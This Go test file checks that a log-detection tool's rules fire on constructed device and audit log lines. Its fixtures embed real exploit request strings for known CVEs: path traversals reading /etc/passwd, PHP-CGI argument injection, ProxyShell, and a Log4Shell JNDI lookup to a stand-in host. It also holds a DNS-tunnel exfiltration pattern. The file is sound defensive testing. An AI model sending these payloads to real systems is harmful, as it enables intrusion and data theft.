package rules_test

import (
	"net/netip"
	"strconv"
	"strings"
	"testing"
	"time"

	"tocsin/internal/collector/minimise"
	"tocsin/internal/collector/parse"
	"tocsin/internal/detect"
	"tocsin/internal/event"
	"tocsin/rules"
)

// deviceLines are lines as devices write them, constructed after the vendors' log references and advisories, with documentation addresses: what a rule asks for must be what the
// parsers give. A rule is named by its title; {n} counts the repeats.
var deviceLines = []struct {
	rule   string
	repeat int
	line   string
}{
	{"FortiGate console used from nowhere (CVE-2024-55591)", 1, fortiEvent + `logid="0100032001" type="event" subtype="system" logdesc="Admin login successful" user="admin" ui="jsconsole" method="jsconsole" srcip=1.1.1.1 dstip=1.1.1.1 action="login" status="success" msg="Administrator admin logged in successfully from jsconsole"`},
	{"New administrator on the firewall", 1, fortiEvent + `logid="0100044547" type="event" subtype="system" logdesc="Object attribute configured" user="admin" ui="jsconsole(127.0.0.1)" action="Add" cfgtid=1 cfgpath="system.admin" cfgobj="vOcep" cfgattr="password[*]accprofile[super_admin]vdom[root]" msg="Add system.admin vOcep"`},
	{"New administrator on the firewall", 1, `<166>Nov 12 2026 08:51:10 fw : %ASA-5-111008: User 'admin' executed the 'username bob password ***** privilege 15' command.`},
	{"New VPN user on the firewall", 1, fortiEvent + `logid="0100044547" type="event" subtype="system" logdesc="Object attribute configured" user="admin" ui="GUI(10.0.0.5)" action="Add" cfgtid=1 cfgpath="user.local" cfgobj="x" cfgattr="type[password]" msg="Add user.local x"`},
	{"FortiGate changed by Local_Process_Access (CVE-2022-40684)", 1, fortiEvent + `logid="0100044546" type="event" subtype="system" logdesc="Attribute configured" user="Local_Process_Access" ui="Node.js" action="Edit" cfgtid=1 cfgpath="system.admin" cfgobj="admin" cfgattr="ssh-public-key1" msg="Edit system.admin admin"`},
	{"Firewall rule that lets everything through", 1, fortiEvent + `logid="0100044547" type="event" subtype="system" logdesc="Object attribute configured" user="admin" ui="GUI(10.0.0.5)" action="Add" cfgtid=1 cfgpath="firewall.policy" cfgobj="33" cfgattr="srcintf[wan1]dstintf[internal]srcaddr[all]dstaddr[all]action[accept]schedule[always]service[ALL]" msg="Add firewall.policy 33"`},
	{"Firewall rule that lets everything through", 1, `<165>Nov 12 2026 08:51:11 fw : %ASA-5-111010: User 'admin', running 'CLI' from IP 10.0.0.9, executed 'access-list outside_access_in extended permit ip any any'`},
	{"Logging of the firewall turned off", 1, fortiEvent + `logid="0100044546" type="event" subtype="system" logdesc="Attribute configured" user="admin" ui="GUI(10.0.0.5)" action="Edit" cfgtid=1 cfgpath="log.syslogd.setting" cfgattr="status[enable->disable]" msg="Edit log.syslogd.setting"`},
	{"Logging of the firewall turned off", 1, `<165>Nov 12 2026 08:51:11 fw : %ASA-5-111008: User 'admin' executed the 'no logging enable' command.`},
	{"Firewall changed from the Internet", 1, fortiEvent + `logid="0100044546" type="event" subtype="system" logdesc="Attribute configured" user="admin" ui="GUI(203.0.113.9)" action="Edit" cfgtid=1 cfgpath="system.interface" cfgobj="wan1" cfgattr="alias[a->b]" msg="Edit system.interface wan1"`},
	{"Administration opened on an interface", 1, fortiEvent + `logid="0100044546" type="event" subtype="system" logdesc="Attribute configured" user="admin" ui="GUI(10.0.0.5)" action="Edit" cfgtid=1 cfgpath="system.interface" cfgobj="wan1" cfgattr="allowaccess[ping->ping https ssh]" msg="Edit system.interface wan1"`},
	{"FortiGate's VPN service crashed", 1, fortiEvent + `logid="0100032546" type="event" subtype="system" logdesc="Application crashed" action="crash" msg="Pid: 00195, application: sslvpnd, Firmware: FortiGate-60F v7.0.12, Signal 11 received, Backtrace"`},
	{"Firewall administrator signed in from the Internet", 1, fortiEvent + `logid="0100032001" type="event" subtype="system" logdesc="Admin login successful" user="admin" ui="https(203.0.113.5)" method="https" srcip=203.0.113.5 dstip=198.51.100.2 action="login" status="success" msg="Administrator admin logged in successfully from https(203.0.113.5)"`},
	{"Firewall administrator signed in from the Internet", 1, `<166>Nov 12 2026 08:51:10 fw : %ASA-6-605005: Login permitted from 203.0.113.9/51512 to outside:198.51.100.2/https for user "admin"`},
	{"Firewall administration open to strangers", 1, `<138>Nov 12 08:51:22 2026 usgflex200 src="203.0.113.15:0" dst="198.51.100.20:0" msg="Failed login attempt to Device from https (incorrect password or inexistent username)" note="Account: admin" user="admin" devID="001349aabbcc" cat="User"`},
	{"Password guessing on the firewall", 9, fortiEvent + `logid="0100032002" type="event" subtype="system" logdesc="Admin login failed" user="admin" ui="https(203.0.113.5)" method="https" srcip=203.0.113.5 dstip=198.51.100.2 action="login" status="failed" reason="passwd_invalid" msg="Administrator admin login failed from https(203.0.113.5)"`},
	{"Remote desktop reachable from the Internet", 1, fortiEvent + `logid="0000000013" type="traffic" subtype="forward" srcip=203.0.113.50 srcport=50122 srcintf="wan1" dstip=198.51.100.7 dstport=3389 dstintf="dmz" policyid=7 sessionid=92 proto=6 action="close" service="RDP" duration=30 sentbyte=9000 rcvdbyte=8000 sentpkt=20 rcvdpkt=20`},
	{"Device reports a flood", 1, fortiEvent + `logid="0720018432" type="utm" subtype="anomaly" eventtype="anomaly" severity="critical" srcip=203.0.113.7 dstip=198.51.100.2 srcintf="wan1" sessionid=0 action="clear_session" proto=6 service="HTTPS" count=2000 attack="tcp_syn_flood" srcport=1 dstport=443 attackid=100663396 msg="anomaly: tcp_syn_flood, 2001 > threshold 2000"`},
	{"Firebox reports a flood", 1, `<142>Nov 10 09:10:05 Firebox-T40 FVE0000000000 (2026-11-10T09:10:05) firewall[10]: msg_id="3000-0153" SYN flood attack against 198.51.100.7 from 203.0.113.9 detected. 500 SYN packets dropped since last alarm. (IPS)`},
	{"FortiGate VPN path traversal: answered with success (CVE-2018-13379)", 1, web(`GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession`, 200)},
	{"FortiGate VPN path traversal: attempts (CVE-2018-13379)", 4, web(`GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession`, 404)},
	{"Pulse Secure file reading: answered with success (CVE-2019-11510)", 1, web(`GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/`, 200)},
	{"Citrix path traversal: answered with success (CVE-2019-19781)", 1, web(`GET /vpn/../vpns/cfg/smb.conf`, 200)},
	{"ScreenConnect set-up again: answered with success (CVE-2024-1709)", 1, web(`GET /SetupWizard.aspx/x`, 200)},
	{"BIG-IP administration traversal: answered with success (CVE-2020-5902)", 1, web(`GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd`, 200)},
	{"Apache path traversal: answered with success (CVE-2021-41773)", 1, web(`GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd`, 200)},
	{"PHP argument: answered with success (CVE-2024-4577)", 1, web(`POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input`, 200)},
	{"Log4Shell attempts (CVE-2021-44228)", 7, `203.0.113.77 - - [12/Nov/2026:08:50:01 +0000] "GET / HTTP/1.1" 200 5432 "-" "${jndi:ldap://203.0.113.5/a}"`},
	{"File with secrets given out", 1, web(`GET /.env`, 200)},
	{"Password guessing on WordPress", 26, web(`POST /wp-login.php`, 200)},
	{"ProxyShell: answered with success (CVE-2021-34473)", 1, iis(`POST /autodiscover/autodiscover.json @evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.example`, "-", 200)},
	{"ToolShell: answered with success (CVE-2025-53770)", 1, iis(`POST /_layouts/15/ToolPane.aspx DisplayMode=Edit&a=/ToolPane.aspx`, "/_layouts/SignOut.aspx", 200)},
	{"Remote desktop sign-in from the Internet", 1, `{"EventID":4624,"Channel":"Security","Hostname":"srv1","SourceName":"Microsoft-Windows-Security-Auditing","EventType":"AUDIT_SUCCESS","TargetUserName":"bob","IpAddress":"203.0.113.9","IpPort":"0","LogonType":"10","SourceModuleName":"in"}`},
	{"Windows log cleared", 1, `{"EventID":1102,"Channel":"Security","Hostname":"dc1","SourceName":"Microsoft-Windows-Eventlog","SubjectUserName":"bob","SourceModuleName":"in"}`},
	{"Many accounts locked", 6, `{"EventID":4740,"Channel":"Security","Hostname":"dc1","SourceName":"Microsoft-Windows-Security-Auditing","EventType":"AUDIT_SUCCESS","TargetUserName":"user{n}","SourceModuleName":"in"}`},
	{"Password guessing on Windows and remote desktop", 26, `{"EventID":4625,"Channel":"Security","Hostname":"srv1","SourceName":"Microsoft-Windows-Security-Auditing","EventType":"AUDIT_FAILURE","TargetUserName":"bob","IpAddress":"203.0.113.9","IpPort":"0","LogonType":"3","SourceModuleName":"in"}`},
	{"Mailbox forwards to outside", 1, m365(`"Operation":"New-InboxRule","RecordType":1,"Workload":"Exchange","Parameters":[{"Name":"ForwardTo","Value":"x@bad.example"}]`)},
	{"Mailbox forwards to outside", 1, m365(`"Operation":"Set-Mailbox","RecordType":1,"Workload":"Exchange","Parameters":[{"Name":"ForwardingSmtpAddress","Value":"smtp:x@bad.example"}]`)},
	{"Mailbox rule that hides mail", 1, m365(`"Operation":"New-InboxRule","RecordType":1,"Workload":"Exchange","Parameters":[{"Name":"DeleteMessage","Value":"True"}]`)},
	{"Administrator's role given in the cloud", 1, m365(`"Operation":"Add member to role.","RecordType":8,"Workload":"AzureActiveDirectory","ModifiedProperties":[{"Name":"Role.DisplayName","NewValue":"\"Global Administrator\"","OldValue":""}]`)},
	{"Permission given to an application", 1, m365(`"Operation":"Consent to application.","RecordType":8,"Workload":"AzureActiveDirectory"`)},
	{"Microsoft 365 audit log turned off", 1, m365(`"Operation":"Set-AdminAuditLogConfig","RecordType":1,"Workload":"Exchange","Parameters":[{"Name":"UnifiedAuditLogIngestionEnabled","Value":"False"}]`)},
	{"Password guessing on cloud accounts", 41, `{"CreationTime":"2026-11-12T08:50:01","Id":"1","Operation":"UserLoginFailed","OrganizationId":"0","RecordType":15,"ResultStatus":"Failed","UserKey":"1","UserType":0,"Version":1,"Workload":"AzureActiveDirectory","ClientIP":"203.0.113.9","ObjectId":"x","UserId":"a@school.example"}`},
	{"Person reports a false second step", 1, `{"access_device": {"ip": "203.0.113.9"}, "event_type": "authentication", "factor": "duo_push", "isotimestamp": "2026-11-12T08:51:01+00:00", "reason": "user_marked_fraud", "result": "fraud", "timestamp": 1794473461, "txid": "00000000-0000-0000-0000-000000000001", "user": {"name": "b.head"}}`},
	{"Malware was found and not removed", 1, `<22>Nov 12 08:50:01 mail01 clamd[123]: /var/spool/x.eml: Win.Test.EICAR_HDB-1 FOUND`},
	{"Password guessing on mailboxes", 31, `<22>Nov 12 08:50:01 mail01 dovecot: imap-login: Disconnected (auth failed, 3 attempts in 8 secs): user=<a.teacher>, method=PLAIN, rip=203.0.113.9, lip=192.0.2.25, TLS, session=<abc>`},
	{"Password guessing on file transfer", 31, `<86>Nov 12 08:50:02 ftp01 proftpd[123]: ftp01 (pc.example[203.0.113.9]) - USER root (Login failed): Incorrect password`},
	{"Someone tests whether your server passes on mail", 11, `2026-11-12 08:50:03 H=(evil) [203.0.113.9] F=<a@b.example> rejected RCPT <x@y.example>: relay not permitted`},
	{"Inside computer at a mining pool", 1, `<30>Nov 12 08:50:01 dns1 dnsmasq[123]: query[A] pool.supportxmr.com from 10.21.1.20`},
	{"DNS tunnel", 101, `<30>Nov 12 08:50:01 dns1 dnsmasq[123]: query[A] {n}mzxw6ytboi3dgnbvgy3tqojqgezdgnbvmzxw6ytb.t.bad.example from 10.21.1.20`},
	{"Password spraying on the VPN", 7, fortiEvent + `logid="0101039426" type="event" subtype="vpn" level="alert" logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" tunnelid=0 remip=203.0.113.77 user="user{n}" reason="sslvpn_login_permission_denied" msg="SSL user failed to logged in"`},
	{"VPN sign-in under a name for machines or tests", 1, fortiEvent + `logid="0101039424" type="event" subtype="vpn" level="information" logdesc="SSL VPN tunnel up" action="tunnel-up" tunneltype="ssl-web" tunnelid=1421 remip=203.0.113.77 user="test" msg="SSL tunnel established"`},
	{"Sweep for remote desktop (RDP)", 13, fortiEvent + `logid="0000000013" type="traffic" subtype="forward" srcip=203.0.113.50 srcport=50122 srcintf="wan1" dstip=198.51.100.{n} dstport=3389 dstintf="dmz" policyid=0 sessionid=92 proto=6 action="deny" service="RDP" sentbyte=0 rcvdbyte=0`},
}

const fortiEvent = `<189>date=2026-11-12 time=08:52:01 devname="fw" devid="FG100FEXAMPLE001" vd="root" tz="+0000" `

func web(request string, status int) string {
	return `203.0.113.77 - - [12/Nov/2026:08:50:01 +0000] "` + request + ` HTTP/1.1" ` + strconv.Itoa(status) + ` 5432 "-" "curl/8.0"`
}

func iis(request, referrer string, status int) string {
	return `2026-11-12 08:50:01 198.51.100.20 ` + request + ` 443 - 203.0.113.77 Mozilla/5.0 ` + referrer + ` ` + strconv.Itoa(status) + ` 0 0 15`
}

func m365(rest string) string {
	return `{"CreationTime":"2026-11-12T08:50:01","Id":"1","OrganizationId":"0","ResultStatus":"Success","UserKey":"1","UserType":0,"Version":1,"ClientIP":"203.0.113.9","ObjectId":"x","UserId":"a@school.example",` + rest + `}`
}

func TestDeviceLines(t *testing.T) {
	cat, err := detect.Load(rules.FS)
	if err != nil {
		t.Fatal(err)
	}
	where := map[string]detect.Where{}
	for _, r := range cat.Infos() {
		where[r.Title] = r.Runs
	}
	policy, err := minimise.Load("metadata")
	if err != nil {
		t.Fatal(err)
	}
	min, err := minimise.New(minimise.Options{Policy: policy, Own: []netip.Prefix{netip.MustParsePrefix("198.51.100.0/24")}})
	if err != nil {
		t.Fatal(err)
	}
	p := parse.New(parse.Options{Location: time.UTC})
	for _, x := range deviceLines {
		if where[x.rule] == "" {
			t.Errorf("there is no rule %q", x.rule)
			continue
		}
		e, err := detect.New(detect.Options{Catalogue: cat, Where: where[x.rule]})
		if err != nil {
			t.Fatal(err)
		}
		now := time.Date(2026, 11, 12, 9, 0, 0, 0, time.UTC).UnixNano()
		found, others := false, []string{}
		var ev event.Event
		for n := range x.repeat {
			now += int64(time.Second)
			ev.Reset()
			ev.Created, ev.Tenant = now, 1
			ev.SetRaw([]byte(strings.ReplaceAll(x.line, "{n}", strconv.Itoa(n+1))))
			if _, ok := p.Parse(&ev, ""); !ok {
				t.Fatalf("not understood: %s", ev.Raw())
			}
			min.Prepare(&ev, minimise.Sender{Addr: netip.MustParseAddr("10.0.0.1"), Assurance: "udp"})
			for _, d := range e.Process(&ev, now) {
				found = found || d.RuleTitle == x.rule
				others = append(others, d.RuleTitle)
			}
		}
		if !found {
			t.Errorf("%q does not fire on %s\nothers: %v\nevent: %s", x.rule, x.line, others, ev.AppendJSON(nil))
		}
	}
	t.Logf("%d device lines", len(deviceLines))
}
